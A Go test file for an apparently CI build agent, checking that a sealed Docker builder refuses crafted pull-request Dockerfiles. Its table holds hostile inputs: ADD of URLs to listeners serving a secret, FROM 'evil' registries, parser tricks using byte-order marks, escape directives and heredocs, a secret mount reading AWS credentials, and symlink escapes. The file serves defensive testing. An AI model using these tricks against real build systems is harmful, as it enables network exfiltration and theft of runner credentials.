package agent

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/perfgate/perfgate/internal/analysis/report"
	"github.com/perfgate/perfgate/internal/runner/sandbox"
	"github.com/perfgate/perfgate/internal/runner/source"
	"github.com/perfgate/perfgate/internal/vocab/agentapi"
)

// testBuilder is the package's one sealed builder, started by the first
// test that builds and stopped by TestMain (StopTestBuilder).
var testBuilder struct {
	once sync.Once
	b    *sandbox.Builder
	dir  string
	err  error
}

// SealedBuilderHost is the DOCKER_HOST of the package's sealed builder. It
// skips without a Docker daemon or the rights to start one, except under
// CI, where the builds must be tested.
func SealedBuilderHost(t testing.TB) string {
	t.Helper()
	if testing.Short() {
		t.Skip("-short: needs a Docker daemon")
	}
	skip := func(msg string) {
		if os.Getenv("CI") != "" {
			t.Fatal(msg + "; CI is set, so it may not skip")
		}
		t.Skip(msg)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if out, err := exec.CommandContext(ctx, "docker", "version", "--format", "{{.Server.Version}}").CombinedOutput(); err != nil {
		skip(fmt.Sprintf("no Docker daemon (%v: %s)", err, bytes.TrimSpace(out)))
	}
	testBuilder.once.Do(func() {
		testBuilder.dir, testBuilder.err = os.MkdirTemp("", "perfgate-agent-builder-")
		if testBuilder.err == nil {
			testBuilder.b, testBuilder.err = sandbox.StartBuilder(ctx, sandbox.BuilderConfig{Dir: testBuilder.dir, Log: zerolog.Nop()})
		}
	})
	if testBuilder.err != nil {
		skip(fmt.Sprintf("no sealed builder: %v", testBuilder.err))
	}
	return testBuilder.b.Host
}

// StopTestBuilder stops the package's sealed builder, if a test started it.
func StopTestBuilder() {
	if testBuilder.b != nil {
		_ = testBuilder.b.Close()
	}
	if testBuilder.dir != "" {
		_ = os.RemoveAll(testBuilder.dir)
	}
}

// countingListener is a TCP listener that counts the connections it
// accepts and answers each with a secret, as a service on the host would.
type countingListener struct {
	ln   net.Listener
	hits atomic.Int64
}

func listenCounting(t *testing.T, addr string) *countingListener {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	l := &countingListener{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.hits.Add(1)
			_, _ = c.Write([]byte("HTTP/1.0 200 OK\r\nContent-Length: 20\r\n\r\nthe runner's secret\n"))
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { _ = ln.Close() })
	return l
}

// bridgeAddr is the host's address on Docker's default bridge, or "".
func bridgeAddr() string {
	ifc, err := net.InterfaceByName("docker0")
	if err != nil {
		return ""
	}
	addrs, err := ifc.Addrs()
	if err != nil {
		return ""
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	return ""
}

// TestCraftedDockerfiles: nothing in a pull request's Dockerfile reaches a
// network while it is built, whatever its bytes. Each Dockerfile of the
// table — one per way a reader of Dockerfiles can be fooled or a builder
// asked to fetch — goes through the agent's real build path (a.build, the
// sealed builder) against a real Docker daemon, with listeners on the
// host's loopback and on the Docker bridge. Every case: 0 connections to
// either listener, a failure that quotes the line, and the check run's
// text saying so. A control first shows the listeners are reachable from
// the host's own daemon, so a 0 is the builder's doing. Needs Docker and
// root (skips without, fails under CI).
func TestCraftedDockerfiles(t *testing.T) {
	host := SealedBuilderHost(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	start := time.Now()
	lo := listenCounting(t, "127.0.0.1:0")
	H := lo.ln.Addr().String()
	B, br := H, (*countingListener)(nil)
	if ip := bridgeAddr(); ip != "" {
		br = listenCounting(t, ip+":0")
		B = br.ln.Addr().String()
	}
	hits := func() (int64, int64) {
		if br == nil {
			return lo.hits.Load(), 0
		}
		return lo.hits.Load(), br.hits.Load()
	}

	// The control: the host's daemon fetches ADD <url> from the bridge
	// listener (from its own namespace, whatever --network says).
	if br != nil {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM scratch\nADD http://"+B+"/secret /secret\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := exec.CommandContext(ctx, "docker", "build", "--network=none", "-q", dir).CombinedOutput()
		if _, b := hits(); b == 0 {
			t.Fatalf("control: the host's daemon did not reach the bridge listener (%v: %s): the test proves nothing", err, out)
		}
		if id := strings.TrimSpace(string(out)); err == nil && id != "" {
			_ = exec.Command("docker", "image", "rm", id).Run()
		}
		br.hits.Store(0)
	}

	// A local base image, copied into the builder by ID.
	base := fmt.Sprintf("perfgate-crafted-base:%d", time.Now().UnixNano())
	bdir := t.TempDir()
	if err := os.WriteFile(filepath.Join(bdir, "Dockerfile"), []byte("FROM scratch\nCOPY Dockerfile /base\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.CommandContext(ctx, "docker", "build", "-q", "-t", base, bdir).CombinedOutput(); err != nil {
		t.Fatalf("base image: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("docker", "image", "rm", "-f", base).Run() })

	padding := strings.Repeat("# a comment line that pads the file past every reader's buffer\n", (1100<<10)/64)
	zeros := strings.Repeat("0", 64)
	type tc struct {
		class, name string
		dockerfile  string
		args        []string // before the context; -t and the context are added
		quote       string   // the failure quotes this
		says        string   // and says this, in words
	}
	// What the failure says, in words no generic message holds.
	const url, lacks, cred = "fetches a URL", "not on this runner", "asks for a credential of the runner"
	cases := []tc{
		{"size", "ADD url after 1.1 MiB of comments", "FROM " + base + "\n" + padding + "ADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"size", "FROM a host registry after 1.1 MiB of comments", padding + "FROM " + H + "/evil:latest\n", nil, "FROM " + H + "/evil:latest", lacks},
		{"byte-order mark", "BOM before escape directive", "\ufeff# escape=`\nFROM " + base + "\nADD http://" + H + "/secret `\n  /secret\n", nil, "http://" + H + "/secret", url},
		{"byte-order mark", "BOM before FROM a host registry", "\ufeffFROM " + H + "/evil:latest\n", nil, "FROM " + H + "/evil:latest", lacks},
		{"byte-order mark", "BOM before ADD url", "\ufeffFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "escape directive first", "# escape=`\nFROM " + base + "\nADD `\n  http://" + H + "/secret /secret\n", nil, "http://" + H + "/secret", url},
		{"directive", "comment before escape directive", "# a comment\n# escape=`\nFROM " + base + "\nADD http://" + H + "/secret `\n  /secret\n", nil, "http://" + H + "/secret", url},
		{"directive", "blank line before escape directive", "\n# escape=`\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "escape directive after FROM", "FROM " + base + "\n# escape=`\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "escape directive in capitals with spaces", "#  ESCAPE = `\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "syntax directive first", "# syntax=" + H + "/frontend:1\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "# syntax=" + H + "/frontend:1", "syntax directive"},
		{"directive", "BOM before syntax directive", "\ufeff# syntax=" + H + "/frontend:1\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "comment before syntax directive", "# a comment\n# syntax=" + H + "/frontend:1\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "syntax directive after escape directive", "# escape=`\n# syntax=" + H + "/frontend:1\nFROM " + base + "\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"directive", "syntax directive after FROM", "FROM " + base + "\n# syntax=" + H + "/frontend:1\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"continuation", "backslash continuations", "FROM " + base + "\nADD \\\n  http://" + H + "/secret \\\n  /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"continuation", "backtick continuations", "# escape=`\nFROM " + base + "\nADD `\n  http://" + H + "/secret `\n  /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"continuation", "comment inside a continuation", "FROM " + base + "\nADD \\\n# a comment\n  http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"continuation", "empty line inside a continuation", "FROM " + base + "\nADD \\\n\n  http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"heredoc", "ADD url inside a RUN heredoc", "FROM " + base + "\nRUN <<EOF\nADD http://" + H + "/secret /secret\nEOF\n", nil, "RUN <<EOF", "reads no heredocs"},
		{"heredoc", "COPY heredoc then ADD url", "FROM " + base + "\nCOPY <<EOF /x\nhello\nEOF\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"heredoc", "ADD url as a heredoc's terminator", "FROM " + base + "\nCOPY <<ADD /x\nhello\nADD\nADD http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"ADD", "ADD --checksum of a url", "FROM " + base + "\nADD --checksum=sha256:" + zeros + " http://" + H + "/secret /secret\n", nil, "ADD http://" + H + "/secret", url},
		{"ADD", "ADD git@", "FROM " + base + "\nADD git@" + strings.Split(H, ":")[0] + ":evil/repo.git /repo\n", nil, "ADD git@", url},
		{"ADD", "ADD a git url", "FROM " + base + "\nADD https://" + H + "/evil/repo.git#main /repo\n", nil, "ADD https://" + H + "/evil/repo.git", url},
		{"ADD", "ADD a quoted url", "FROM " + base + "\nADD 'http://" + H + "/secret' /secret\n", nil, "ADD 'http://" + H + "/secret'", url},
		{"ADD", "ADD an escaped url", "FROM " + base + "\nADD http:\\/\\/" + H + "/secret /secret\n", nil, "ADD http:\\/\\/" + H, "quotes or escapes"},
		{"ADD", "ADD a JSON array", "FROM " + base + "\nADD [\"http://" + H + "/secret\", \"/secret\"]\n", nil, "http://" + H + "/secret", url},
		{"ADD", "ADD a url on the bridge", "FROM " + base + "\nADD http://" + B + "/secret /secret\n", nil, "ADD http://" + B + "/secret", url},
		{"ADD", "ADD a url from an ARG", "FROM " + base + "\nARG U=http://" + H + "/secret\nADD ${U} /secret\n", nil, "ADD ${U}", "variable"},
		{"COPY --from", "COPY --from a host registry", "FROM " + base + "\nCOPY --from=" + H + "/evil:latest /x /x\n", nil, "COPY --from=" + H + "/evil:latest", lacks},
		{"FROM", "FROM a host registry", "FROM " + H + "/evil:latest\n", nil, "FROM " + H + "/evil:latest", lacks},
		{"FROM", "FROM a registry on the bridge", "FROM " + B + "/evil:latest\n", nil, "FROM " + B + "/evil:latest", lacks},
		{"FROM", "FROM a registry name", "FROM registry.example.com/evil/image:1\n", nil, "FROM registry.example.com/evil/image:1", lacks},
		{"FROM", "FROM a Docker Hub name", "FROM alpine:3.20\n", nil, "FROM alpine:3.20", lacks},
		{"FROM", "FROM a host registry through a build arg", "ARG IMG\nFROM ${IMG}\n", []string{"--build-arg", "IMG=" + H + "/evil:latest"}, "FROM ${IMG}", lacks},
		{"RUN --mount", "RUN --mount=type=secret", "FROM " + base + "\nRUN --mount=type=secret,id=aws cat /run/secrets/aws\n", nil, "RUN --mount=type=secret,id=aws", cred},
		{"RUN --mount", "RUN --mount=type=ssh", "FROM " + base + "\nRUN --mount=type=ssh ssh git@" + H + "\n", nil, "RUN --mount=type=ssh", cred},
		{"RUN --network", "RUN --network=host", "FROM " + base + "\nRUN --network=host wget http://" + H + "/secret\n", nil, "RUN --network=host", "asks for a network"},
		{"-f", "-f outside the context", "FROM " + base + "\nADD http://" + H + "/secret /secret\n", []string{"-f", "../outside.Dockerfile"}, "-f ../outside.Dockerfile", "outside the checkout"},
		{"-f", "-f a symlink out of the checkout", "FROM " + base + "\nADD http://" + H + "/secret /secret\n", []string{"-f", "escape.Dockerfile"}, "escape.Dockerfile", "inside the checkout"},
	}
	a := &Agent{cfg: Config{Docker: "docker", BuildHost: host, Log: zerolog.Nop()}}
	defer a.closeBuilder()
	const sha = "0123456789012345678901234567890123456789"
	for i, c := range cases {
		t.Run(c.class+"/"+c.name, func(t *testing.T) {
			home := t.TempDir()
			dir := filepath.Join(home, "tree")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			df := filepath.Join(dir, "Dockerfile")
			switch {
			case slices.Contains(c.args, "../outside.Dockerfile"):
				df = filepath.Join(home, "outside.Dockerfile")
			case slices.Contains(c.args, "escape.Dockerfile"):
				df = filepath.Join(home, "outside.Dockerfile")
				if err := os.Symlink(df, filepath.Join(dir, "escape.Dockerfile")); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.WriteFile(df, []byte(c.dockerfile), 0o644); err != nil {
				t.Fatal(err)
			}
			tag := fmt.Sprintf("perfgate-crafted:%d", i)
			defer exec.Command("docker", "image", "rm", "-f", tag).Run()
			argv := append(append([]string{"docker", "build"}, c.args...), "-t", tag, ".")
			plan := agentapi.Plan{Engine: agentapi.Engine{Build: &agentapi.Build{Command: argv, Image: tag}}}
			s := &side{sha: sha, checkout: &source.Checkout{Dir: dir, Home: home}}
			_, err := a.build(ctx, &agentapi.ClaimResponse{JobID: 1}, plan, s, "", zerolog.Nop())
			if l, b := hits(); l != 0 || b != 0 {
				t.Fatalf("the build connected to the host: %d connections on the loopback listener, %d on the bridge's", l, b)
			}
			if err == nil {
				t.Fatal("the build succeeded; want a failure quoting the line")
			}
			t.Logf("%s", strings.SplitN(err.Error(), "; last output:", 2)[0])
			if !strings.Contains(err.Error(), c.quote) || !strings.Contains(err.Error(), c.says) {
				t.Fatalf("build error does not quote %q and say %q:\n%v", c.quote, c.says, err)
			}
			// The reason reaches the check run as the job's failure.
			ch, rerr := report.RenderCheck(report.View{Tier: "quick", Verdict: report.Broken, SHA: sha,
				Problems: []string{"job 1: build of " + sha + ": " + err.Error()}})
			if rerr != nil {
				t.Fatal(rerr)
			}
			if out := ch.Summary + ch.Text; !strings.Contains(out, c.quote) || !strings.Contains(out, c.says) {
				t.Fatalf("the check run does not quote %q and say %q:\n%s", c.quote, c.says, out)
			}
		})
	}

	// And a Dockerfile that asks for nothing builds, from the local base,
	// and its image reaches the host's daemon by ID.
	t.Run("allowed", func(t *testing.T) {
		home := t.TempDir()
		dir := filepath.Join(home, "tree")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM "+base+"\nCOPY Dockerfile /Dockerfile\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		tag := "perfgate-crafted:allowed"
		defer exec.Command("docker", "image", "rm", "-f", tag).Run()
		plan := agentapi.Plan{Engine: agentapi.Engine{Build: &agentapi.Build{Command: []string{"docker", "build", "--quiet", "-t", tag, "."}, Image: tag}}}
		s := &side{sha: sha, checkout: &source.Checkout{Dir: dir, Home: home}}
		id, err := a.build(ctx, &agentapi.ClaimResponse{JobID: 1}, plan, s, "", zerolog.Nop())
		if err != nil || !strings.HasPrefix(id, "sha256:") {
			t.Fatalf("build: %q, %v", id, err)
		}
	})
	l, b := hits()
	t.Logf("%d crafted Dockerfiles: %d connections to 127.0.0.1, %d to the bridge (%s); %s in all", len(cases), l, b, B, time.Since(start).Round(time.Millisecond))
}

// The build's output is capped before the job log and the check run: the
// log keeps the first buildLogLimit bytes and a note, the failure quotes
// the last buildTail.
func TestBuildOutputCapped(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	tail := &tailWriter{max: buildTail}
	w := &cappedWriter{w: &log, left: buildLogLimit, tail: tail}
	line := bytes.Repeat([]byte("x"), 999)
	line = append(line, '\n')
	for range 5000 { // 5 MB
		w.Write(line)
	}
	w.Write([]byte("the last line\n"))
	if log.Len() > buildLogLimit+200 || !strings.Contains(log.String(), "the rest is not kept") {
		t.Errorf("log kept %d bytes (limit %d), note present %v", log.Len(), buildLogLimit, strings.Contains(log.String(), "not kept"))
	}
	if got := tail.String(); len(got) > buildTail || !strings.HasSuffix(got, "the last line") {
		t.Errorf("tail is %d bytes, ends %q", len(got), got[max(0, len(got)-20):])
	}
}
